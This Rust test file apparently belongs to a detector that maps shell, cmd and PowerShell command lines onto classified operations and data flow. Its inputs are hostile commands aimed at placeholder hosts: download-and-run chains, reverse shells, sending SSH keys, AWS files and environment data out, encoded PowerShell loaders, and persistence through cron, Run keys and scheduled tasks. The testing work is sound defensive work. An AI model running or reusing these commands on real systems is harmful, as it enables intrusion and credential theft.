//! Command lines in, operations with their flow out: one table a claim.
//!
//! A line of the expected text is `class name [role=text; ...] <inputs`; a line feed inside a text shows as `⏎`.

use venin_package::{Dialect, Operation, parse_command_line, read_operations};

fn show(operation: &Operation) -> String {
    let arguments: Vec<String> =
        operation.arguments.iter().map(|(role, text)| format!("{role}={text}")).collect();
    let inputs: Vec<String> = operation.inputs.iter().map(usize::to_string).collect();
    let flow = if inputs.is_empty() { String::new() } else { format!(" <{}", inputs.join(",")) };
    let line = format!("{} {} [{}]{flow}", operation.class, operation.name, arguments.join("; "));
    line.replace('\n', "⏎")
}

/// Each case: dialect, text, one line an operation.
fn check(cases: &[(&str, &str, &[&str])]) {
    for (dialect, text, expected) in cases {
        let Some(dialect) = Dialect::parse(dialect) else { panic!("{dialect} is no dialect") };
        let commands = parse_command_line(text, dialect);
        let found: Vec<String> = read_operations(&commands).iter().map(show).collect();
        assert_eq!(found, *expected, "{text}");
    }
}

#[test]
fn what_is_fetched_flows_into_what_runs_it() {
    check(&[
        (
            "guess",
            "curl -o f http://h.example/x && chmod +x f && ./f",
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cf.write sh:curl [path=f] <0",
                "Cf.chmod sh:chmod [mode=+x; path=f] <0,1",
                "Cs.spawn sh:f [command=./f; path=./f] <0,1",
            ],
        ),
        (
            "guess",
            "wget -qO- http://h.example/x.sh | bash",
            &[
                "Cn.fetch sh:wget [url=http://h.example/x.sh]",
                "Cs.spawn sh:bash [command=bash; option=standard input] <0",
            ],
        ),
        (
            "guess",
            "curl -sSLo /opt/a http://h.example/a; nohup python3 /opt/a >/dev/null 2>&1 &",
            &[
                "Cn.fetch sh:curl [url=http://h.example/a]",
                "Cf.write sh:curl [path=/opt/a] <0",
                "Cs.spawn sh:python3 [command=python3 /opt/a; path=/opt/a; option=background] <0,1",
            ],
        ),
        (
            "guess",
            r#"bash -c "curl http://h.example/x | sh""#,
            &[
                "Cs.shell sh:bash [command=bash -c curl http://h.example/x | sh; url=http://h.example/x]",
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cs.spawn sh:sh [command=sh; option=standard input] <1",
            ],
        ),
        (
            "sh",
            "U=http://h.example/x; curl $U -o /opt/y; sh /opt/y",
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cf.write sh:curl [path=/opt/y] <0",
                "Cs.spawn sh:sh [command=sh /opt/y; path=/opt/y] <0,1",
            ],
        ),
        (
            "sh",
            r#"eval "$(curl -fsSL http://h.example/i.sh)""#,
            &["Cn.fetch sh:curl [url=http://h.example/i.sh]", "Cs.spawn sh:eval [command=eval ⟨curl⟩] <0"],
        ),
        (
            "sh",
            r#"X=$(curl -s http://h.example/i); python -c "$X""#,
            &["Cn.fetch sh:curl [url=http://h.example/i]", "Cc.exec sh:python [code=⟨curl⟩] <0"],
        ),
        (
            "sh",
            "bash <(curl -s http://h.example/x)",
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cs.spawn sh:bash [command=bash ⟨curl⟩; path=⟨curl⟩] <0",
            ],
        ),
        (
            "sh",
            "curl http://h.example/x > /opt/x 2>/dev/null && sh /opt/x",
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cf.write sh:curl [path=/opt/x; mode=write] <0",
                "Cs.spawn sh:sh [command=sh /opt/x; path=/opt/x] <0,1",
            ],
        ),
        (
            "sh",
            "git clone https://h.example/r.git && cd r && python setup.py install",
            &[
                "Cn.fetch sh:git [url=https://h.example/r.git]",
                "Cf.write sh:git [path=r] <0",
                "Cs.spawn sh:python [command=python setup.py install; path=setup.py]",
            ],
        ),
    ]);
}

#[test]
fn reverse_shells_connect_and_carry_a_shell() {
    check(&[
        (
            "sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            &["Cs.spawn sh:bash [command=bash -i]", "Cr.connect sh:/dev/tcp [host=192.0.2.1; port=4444] <0"],
        ),
        (
            "sh",
            "nc -e /bin/sh 192.0.2.1 4444",
            &[
                "Cr.connect sh:nc [host=192.0.2.1; port=4444; command=/bin/sh]",
                "Cs.spawn sh:nc [command=/bin/sh] <0",
            ],
        ),
        (
            "ps",
            "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444); $s = $c.GetStream()",
            &["Cr.connect ps:new-object [host=192.0.2.1; port=4444]"],
        ),
    ]);
}

#[test]
fn what_the_host_tells_flows_into_what_is_sent() {
    check(&[
        (
            "sh",
            r#"curl -d "$(whoami)@$(hostname)" https://h.example/c"#,
            &[
                "Ch.user sh:whoami [command=whoami]",
                "Ch.host sh:hostname [command=hostname]",
                "Cn.send sh:curl [url=https://h.example/c; data=⟨whoami⟩@⟨hostname⟩] <0,1",
            ],
        ),
        (
            "sh",
            "env | base64 | curl -X POST --data-binary @- https://h.example/c",
            &[
                "Ch.env sh:env []",
                "Ce.encode sh:base64 [] <0",
                "Cn.send sh:curl [url=https://h.example/c; data=standard input] <1",
            ],
        ),
        (
            "sh",
            "nslookup $(whoami).h.example",
            &["Ch.user sh:whoami [command=whoami]", "Cn.send sh:nslookup [host=⟨whoami⟩.h.example] <0"],
        ),
        (
            "sh",
            "cat ~/.ssh/id_rsa | curl -F 'f=@-' https://h.example/up",
            &[
                "Cf.read sh:cat [path=~/.ssh/id_rsa]",
                "Cn.send sh:curl [url=https://h.example/up; data=standard input] <0",
            ],
        ),
        (
            "sh",
            "tar czf /opt/o.tgz ~/.aws && curl -T /opt/o.tgz https://h.example/",
            &[
                "Ce.compress sh:tar [path=/opt/o.tgz; path=~/.aws]",
                "Cn.send sh:curl [url=https://h.example/; path=/opt/o.tgz] <0",
            ],
        ),
        (
            "cmd",
            r#"for /f "tokens=*" %%i in ('whoami') do curl http://h.example/%%i"#,
            &["Ch.user cmd:whoami [command=whoami]", "Cn.fetch cmd:curl [url=http://h.example/%%i] <0"],
        ),
        (
            "ps",
            r"Invoke-RestMethod -Uri https://h.example/hook -Method Post -Body (Get-Content C:\secret.txt)",
            &[
                r"Cf.read ps:get-content [path=C:\secret.txt]",
                "Cn.send ps:invoke-restmethod [url=https://h.example/hook; data=⟨get-content⟩] <0",
            ],
        ),
    ]);
}

#[test]
fn encoded_and_nested_command_lines_are_read() {
    check(&[
        (
            "sh",
            "echo Y3VybCBodHRwOi8vaC5leGFtcGxlL3ggfCBzaA== | base64 -d | bash",
            &[
                "Ce.decode sh:base64 [data=Y3VybCBodHRwOi8vaC5leGFtcGxlL3ggfCBzaA==]",
                "Cs.spawn sh:bash [command=bash; option=standard input] <0",
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cs.spawn sh:sh [command=sh; option=standard input] <2",
            ],
        ),
        (
            "sh",
            r"bash <<'END'
wget http://h.example/q
END",
            &[
                "Cs.spawn sh:bash [command=bash; option=standard input]",
                "Cn.fetch sh:wget [url=http://h.example/q]",
                "Cf.write sh:wget [path=q] <1",
            ],
        ),
        (
            "guess",
            "powershell -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA=",
            &[
                "Cs.shell cmd:powershell [command=powershell -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA=; option=hidden]",
                "Cn.fetch ps:iwr [url=http://h.example/x]",
                "Cs.spawn ps:iex [command=iex ⟨iwr⟩] <1",
            ],
        ),
        (
            "ps",
            "& ('i'+'ex') ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('d2hvYW1p')))",
            &["Cs.shell ps:iex [command=iex whoami]", "Ch.user ps:whoami [command=whoami]"],
        ),
        (
            "ps",
            "Start-Process powershell -ArgumentList '-enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA=' -WindowStyle Hidden",
            &[
                "Cs.spawn ps:start-process [command=Start-Process powershell -ArgumentList -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA= -WindowStyle Hidden; path=powershell; option=hidden]",
                "Cs.shell cmd:powershell [command=powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAvAHgAKQA=]",
                "Cn.fetch ps:iwr [url=http://h.example/x]",
                "Cs.spawn ps:iex [command=iex ⟨iwr⟩] <2",
            ],
        ),
        (
            "ps",
            r#"("{1}{0}" -f 'ex','i') | iex"#,
            &["Cs.shell ps:iex [command=iex; code=iex]", "Cs.shell ps:iex [command=iex]"],
        ),
        (
            "sh",
            r#"bash -c "$(echo d2hvYW1p | base64 -d)""#,
            &[
                "Ce.decode sh:base64 [data=d2hvYW1p]",
                "Cs.shell sh:bash [command=bash -c whoami] <0",
                "Ch.user sh:whoami [command=whoami]",
            ],
        ),
        ("sh", "echo 'import os' | python3 -", &["Cc.exec sh:python3 [code=import os]"]),
        (
            "guess",
            r#"cmd.exe /c start /min "" powershell.exe -Command "Invoke-WebRequest -Uri 'http://h.example/a.exe' -OutFile $env:TEMP\a.exe; & $env:TEMP\a.exe""#,
            &[
                r"Cs.shell cmd:cmd [command=cmd.exe /c start /min  powershell.exe -Command Invoke-WebRequest -Uri 'http://h.example/a.exe' -OutFile $env:TEMP\a.exe; & $env:TEMP\a.exe; url=http://h.example/a.exe]",
                r"Cs.shell cmd:powershell [command=powershell.exe -Command Invoke-WebRequest -Uri 'http://h.example/a.exe' -OutFile $env:TEMP\a.exe; & $env:TEMP\a.exe; url=http://h.example/a.exe; option=background]",
                "Cn.fetch ps:invoke-webrequest [url=http://h.example/a.exe]",
                r"Cf.write ps:invoke-webrequest [path=$env:TEMP\a.exe] <2",
                r"Cs.spawn ps:a [command=$env:TEMP\a.exe; path=$env:TEMP\a.exe] <2,3",
            ],
        ),
        (
            "cmd",
            r#"powershell -Command "iex \"whoami; iwr http://h.example/x\"""#,
            &[
                r#"Cs.shell cmd:powershell [command=powershell -Command iex "whoami; iwr http://h.example/x"; url=http://h.example/x]"#,
                "Cs.shell ps:iex [command=iex whoami; iwr http://h.example/x]",
                "Ch.user ps:whoami [command=whoami]",
                "Cn.fetch ps:iwr [url=http://h.example/x]",
            ],
        ),
        (
            "sh",
            r#"bash -c 'bash -c "sh -c whoami"'"#,
            &[
                r#"Cs.shell sh:bash [command=bash -c bash -c "sh -c whoami"]"#,
                "Cs.shell sh:bash [command=bash -c sh -c whoami]",
                "Cs.shell sh:sh [command=sh -c whoami]",
                "Ch.user sh:whoami [command=whoami]",
            ],
        ),
        (
            "ps",
            "[char]119+'hoami' | iex",
            &["Cs.shell ps:iex [command=iex; code=whoami]", "Ch.user ps:whoami [command=whoami]"],
        ),
    ]);
}

#[test]
fn variables_of_the_same_text_are_filled_in() {
    check(&[
        (
            "sh",
            "U=http://h.example/x; curl $U -o /opt/y; sh /opt/y",
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cf.write sh:curl [path=/opt/y] <0",
                "Cs.spawn sh:sh [command=sh /opt/y; path=/opt/y] <0,1",
            ],
        ),
        (
            "cmd",
            r"set U=http://h.example/x
bitsadmin /transfer job %U% C:\Temp\x.exe && C:\Temp\x.exe",
            &[
                "Cn.fetch cmd:bitsadmin [url=http://h.example/x]",
                r"Cf.write cmd:bitsadmin [path=C:\Temp\x.exe] <0",
                r"Cs.spawn cmd:x [command=C:\Temp\x.exe; path=C:\Temp\x.exe] <0,1",
            ],
        ),
        ("sh", "$(echo cu)rl http://h.example", &["Cn.fetch sh:curl [url=http://h.example]"]),
        (
            "sh",
            "a=cu; b=rl; $a$b http://h.example/z -O",
            &["Cn.fetch sh:curl [url=http://h.example/z]", "Cf.write sh:curl [path=z] <0"],
        ),
        (
            "cmd",
            r"echo %PATH:~0,1%
set A=whoXami
%A:~0,3%ami",
            &["Ch.user cmd:whoami [command=whoami]"],
        ),
        (
            "ps",
            r#"$u='http://h.example/x.exe'; $p="$env:TEMP\x.exe"; (New-Object System.Net.WebClient).DownloadFile($u,$p); Start-Process $p"#,
            &[
                "Cn.fetch ps:downloadfile [url=http://h.example/x.exe]",
                r"Cf.write ps:downloadfile [path=$env:TEMP\x.exe] <0",
                r"Cs.spawn ps:start-process [command=Start-Process $env:TEMP\x.exe; path=$env:TEMP\x.exe] <0,1",
            ],
        ),
    ]);
}

#[test]
fn windows_programs_that_fetch_or_run_are_known() {
    check(&[
        (
            "cmd",
            r#"powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "iex (New-Object Net.WebClient).DownloadString('http://h.example/p.ps1')""#,
            &[
                "Cs.shell cmd:powershell [command=powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command iex (New-Object Net.WebClient).DownloadString('http://h.example/p.ps1'); url=http://h.example/p.ps1; option=hidden; option=bypass]",
                "Cn.fetch ps:downloadstring [url=http://h.example/p.ps1]",
                "Cs.spawn ps:iex [command=iex ⟨downloadstring⟩] <1",
            ],
        ),
        (
            "guess",
            r"start /b certutil -urlcache -split -f http://h.example/x.exe %TEMP%\x.exe & start %TEMP%\x.exe",
            &[
                "Cn.fetch cmd:certutil [url=http://h.example/x.exe]",
                r"Cf.write cmd:certutil [path=%TEMP%\x.exe] <0",
                r"Cs.spawn cmd:x [command=%TEMP%\x.exe; path=%TEMP%\x.exe; option=background] <0,1",
            ],
        ),
        (
            "cmd",
            r#"cmd /c "ping -n 5 127.0.0.1 >nul & del x.exe""#,
            &[
                "Cs.shell cmd:cmd [command=cmd /c ping -n 5 127.0.0.1 >nul & del x.exe]",
                "Cx.sleep cmd:ping [seconds=5]",
                "Cf.delete cmd:del [path=x.exe]",
            ],
        ),
        (
            "cmd",
            "mshta http://h.example/x.hta",
            &[
                "Cn.fetch cmd:mshta [url=http://h.example/x.hta]",
                "Cs.spawn cmd:mshta [command=mshta http://h.example/x.hta] <0",
            ],
        ),
        (
            "cmd",
            "regsvr32 /s /n /u /i:http://h.example/x.sct scrobj.dll",
            &[
                "Cn.fetch cmd:regsvr32 [url=http://h.example/x.sct]",
                "Cs.spawn cmd:regsvr32 [command=regsvr32 /s /n /u /i:http://h.example/x.sct scrobj.dll; path=scrobj.dll] <0",
            ],
        ),
        (
            "cmd",
            r"rundll32.exe C:\x.dll,Start",
            &[r"Cs.spawn cmd:rundll32 [command=rundll32.exe C:\x.dll,Start; path=C:\x.dll]"],
        ),
        (
            "cmd",
            "c^url http://h.example -o x.bat&&call x.bat",
            &[
                "Cn.fetch cmd:curl [url=http://h.example]",
                "Cf.write cmd:curl [path=x.bat] <0",
                "Cs.spawn cmd:x [command=x.bat; path=x.bat] <0,1",
            ],
        ),
        (
            "cmd",
            r"powershell Start-BitsTransfer -Source http://h.example/x.exe -Destination C:\x.exe; Start-Process C:\x.exe",
            &[
                r"Cs.shell cmd:powershell [command=powershell Start-BitsTransfer -Source http://h.example/x.exe -Destination C:\x.exe; Start-Process C:\x.exe; url=http://h.example/x.exe]",
                "Cn.fetch ps:start-bitstransfer [url=http://h.example/x.exe]",
                r"Cf.write ps:start-bitstransfer [path=C:\x.exe] <1",
                r"Cs.spawn ps:start-process [command=Start-Process C:\x.exe; path=C:\x.exe] <1,2",
            ],
        ),
    ]);
}

#[test]
fn powershell_downloads_flow_into_what_runs_them() {
    check(&[
        (
            "ps",
            r"iwr -Uri http://h.example/a -OutFile a.exe; .\a.exe",
            &[
                "Cn.fetch ps:iwr [url=http://h.example/a]",
                "Cf.write ps:iwr [path=a.exe] <0",
                r"Cs.spawn ps:a [command=.\a.exe; path=.\a.exe] <0,1",
            ],
        ),
        (
            "ps",
            "IEX(New-Object Net.WebClient).DownloadString('http://h.example/a')",
            &[
                "Cn.fetch ps:downloadstring [url=http://h.example/a]",
                "Cs.spawn ps:iex [command=IEX ⟨downloadstring⟩] <0",
            ],
        ),
        (
            "ps",
            "iwr http://h.example/a -UseBasicParsing | iex",
            &["Cn.fetch ps:iwr [url=http://h.example/a]", "Cs.spawn ps:iex [command=iex] <0"],
        ),
    ]);
}

#[test]
fn what_starts_by_itself_is_a_write_with_its_place() {
    check(&[
        (
            "sh",
            r#"(crontab -l; echo "* * * * * curl http://h.example | sh") | crontab -"#,
            &[
                "Cf.read sh:crontab [path=crontab]",
                "Cf.write sh:crontab [path=crontab; data=* * * * * curl http://h.example | sh] <0",
            ],
        ),
        (
            "sh",
            r"cat <<END > /etc/systemd/system/x.service
[Unit]
END
systemctl enable x",
            &[
                "Cf.write sh:cat [path=/etc/systemd/system/x.service; mode=write; data=[Unit]⏎]",
                "Cf.write sh:systemctl [path=/etc/systemd/system/x; option=autostart] <0",
            ],
        ),
        (
            "cmd",
            r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Up /t REG_SZ /d "C:\x.exe" /f"#,
            &[
                r"Cf.registry-write cmd:reg [path=HKCU\Software\Microsoft\Windows\CurrentVersion\Run; key=Up; data=C:\x.exe; option=autostart]",
            ],
        ),
        (
            "cmd",
            r#"schtasks /create /tn upd /tr "powershell -w hidden iwr http://h.example/x -OutFile x.exe" /sc minute"#,
            &[
                r"Cf.write cmd:schtasks [path=%SystemRoot%\System32\Tasks\upd; command=powershell -w hidden iwr http://h.example/x -OutFile x.exe; option=autostart]",
                "Cs.shell cmd:powershell [command=powershell -w hidden iwr http://h.example/x -OutFile x.exe; url=http://h.example/x; option=hidden]",
                "Cn.fetch ps:iwr [url=http://h.example/x]",
                "Cf.write ps:iwr [path=x.exe] <2",
            ],
        ),
        (
            "ps",
            r"Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name x -Value y",
            &[
                r"Cf.registry-write ps:set-itemproperty [path=HKCU:\Software\Microsoft\Windows\CurrentVersion\Run; key=x; data=y; option=autostart]",
            ],
        ),
        (
            "sh",
            r#"echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys"#,
            &["Cf.write sh:echo [path=~/.ssh/authorized_keys; mode=append; data=ssh-rsa AAAA]"],
        ),
    ]);
}

#[test]
fn control_flow_is_flattened_in_every_dialect() {
    check(&[
        (
            "sh",
            "if [ -f x ]; then rm -rf ~/.cache; else sleep 5; fi",
            &["Cf.delete sh:rm [path=~/.cache]", "Cx.sleep sh:sleep [seconds=5]"],
        ),
        (
            "sh",
            "for h in a.example b.example; do ping -c 1 $h; done",
            &["Cn.resolve sh:ping [host=a.example]"],
        ),
        (
            "sh",
            "case $1 in start) curl http://h.example/s;; *) true;; esac",
            &["Cn.fetch sh:curl [url=http://h.example/s]"],
        ),
        ("sh", "tools=(curl crontab # of the system\n rm)\nrm -r /x", &["Cf.delete sh:rm [path=/x]"]),
        ("sh", "u=(-s $(curl http://h.example/u))", &["Cn.fetch sh:curl [url=http://h.example/u]"]),
        (
            "cmd",
            r#"if not exist "%APPDATA%\a b" (mkdir "%APPDATA%\a b") else (del /q x)"#,
            &["Cf.delete cmd:del [path=x]"],
        ),
        ("ps", r"if ($true) { Remove-Item -Recurse C:\x }", &[r"Cf.delete ps:remove-item [path=C:\x]"]),
        (
            "sh",
            "source ./x.sh; . ./y.sh",
            &[
                "Cs.spawn sh:source [command=source ./x.sh; path=./x.sh]",
                "Cs.spawn sh:. [command=. ./y.sh; path=./y.sh]",
            ],
        ),
        ("sh", "f() { curl http://h.example/f; }; f", &["Cn.fetch sh:curl [url=http://h.example/f]"]),
    ]);
}

#[test]
fn functions_split_fields_and_questions_are_no_programs() {
    check(&[
        (
            "sh",
            r#"CMD="curl -s http://h.example/x"; $CMD | sh; "$CMD""#,
            &[
                "Cn.fetch sh:curl [url=http://h.example/x]",
                "Cs.spawn sh:sh [command=sh; option=standard input] <0",
                "Cs.spawn sh:x [command=curl -s http://h.example/x; path=curl -s http://h.example/x; url=http://h.example/x]",
            ],
        ),
        (
            "sh",
            "function up { curl -T f https://h.example/; }; up; function_less",
            &[
                "Cn.send sh:curl [url=https://h.example/; path=f]",
                "Cs.spawn sh:function_less [command=function_less]",
            ],
        ),
        (
            "ps",
            "Invoke-RestMethod -Uri http://h.example -Method Post -Body @{ user = (whoami); host = $env:COMPUTERNAME }",
            &[
                "Ch.user ps:whoami [command=whoami]",
                "Cn.send ps:invoke-restmethod [url=http://h.example; data=⟨whoami⟩] <0",
            ],
        ),
        (
            "sh",
            "if command -v curl >/dev/null; then curl http://h.example/x; fi",
            &["Cn.fetch sh:curl [url=http://h.example/x]"],
        ),
    ]);
}

#[test]
fn installers_interpreters_and_host_programs_have_their_classes() {
    check(&[
        (
            "sh",
            "sudo -E python3 -m pip install --index-url https://i.example/simple pkg other==1",
            &[
                "Cs.install sh:python3 [command=python3 -m pip install --index-url https://i.example/simple pkg other==1; url=https://i.example/simple; name=pkg; name=other==1; option=elevated]",
            ],
        ),
        (
            "sh",
            r#"python3 -c 'import os;os.system("id")'"#,
            &[r#"Cc.exec sh:python3 [code=import os;os.system("id")]"#],
        ),
        ("sh", "unknowntool --flag a b", &["Cs.spawn sh:unknowntool [command=unknowntool --flag a b]"]),
        (
            "sh",
            "perl -e 'print 1' ; base64 -d f > g; ./g &",
            &[
                "Cc.exec sh:perl [code=print 1]",
                "Ce.decode sh:base64 [path=f]",
                "Cf.write sh:base64 [path=g; mode=write] <1",
                "Cs.spawn sh:g [command=./g; path=./g; option=background] <1,2",
            ],
        ),
        (
            "sh",
            "uname -a; id; ifconfig; printenv AWS_SECRET; history -c; pip install x",
            &[
                "Ch.platform sh:uname [command=uname -a]",
                "Ch.user sh:id [command=id]",
                "Ch.host sh:ifconfig [command=ifconfig]",
                "Ch.env sh:printenv [key=AWS_SECRET]",
                "Cs.spawn sh:history [command=history -c]",
                "Cs.install sh:pip [command=pip install x; name=x]",
            ],
        ),
        (
            "sh",
            "curl -T f.zip https://h.example/; curl --json '{}' https://h.example/",
            &[
                "Cn.send sh:curl [url=https://h.example/; path=f.zip]",
                "Cn.send sh:curl [url=https://h.example/; data={}]",
            ],
        ),
        ("sh", "export PATH=/x:$PATH; A=1 B=2 ./prog", &["Cs.spawn sh:prog [command=./prog; path=./prog]"]),
        (
            "sh",
            "ls -la /etc; cat /etc/passwd | grep root > out.txt",
            &[
                "Cf.list sh:ls [path=/etc]",
                "Cf.read sh:cat [path=/etc/passwd]",
                "Cf.write sh:grep [path=out.txt; mode=write] <1",
            ],
        ),
        (
            "cmd",
            "timeout /t 5 & taskkill /f /im x.exe & net user",
            &[
                "Cx.sleep cmd:timeout [seconds=5]",
                "Cs.spawn cmd:taskkill [command=taskkill /f /im x.exe]",
                "Ch.user cmd:net [command=net user]",
            ],
        ),
    ]);
}

#[test]
fn what_a_function_prints_flows_into_what_its_call_feeds() {
    let fetch = "Cn.fetch sh:curl [url=http://h.example/f]";
    let run = "Cs.spawn sh:sh [command=sh; option=standard input] <0";
    check(&[
        ("sh", "f() { curl http://h.example/f; }; f | sh", &[fetch, run]),
        ("sh", "f ()\n{\n  curl http://h.example/f\n}\nf | sh", &[fetch, run]),
        ("sh", "function f() { curl http://h.example/f; }\nf | sh", &[fetch, run]),
        (
            "sh",
            "{ id; curl http://h.example/f; } | sh",
            &["Ch.user sh:id [command=id]", fetch, "Cs.spawn sh:sh [command=sh; option=standard input] <0,1"],
        ),
        (
            "ps",
            "function Get-It { iwr http://h.example/x }\nGet-It | iex",
            &["Cn.fetch ps:iwr [url=http://h.example/x]", "Cs.spawn ps:iex [command=iex] <0"],
        ),
    ]);
}
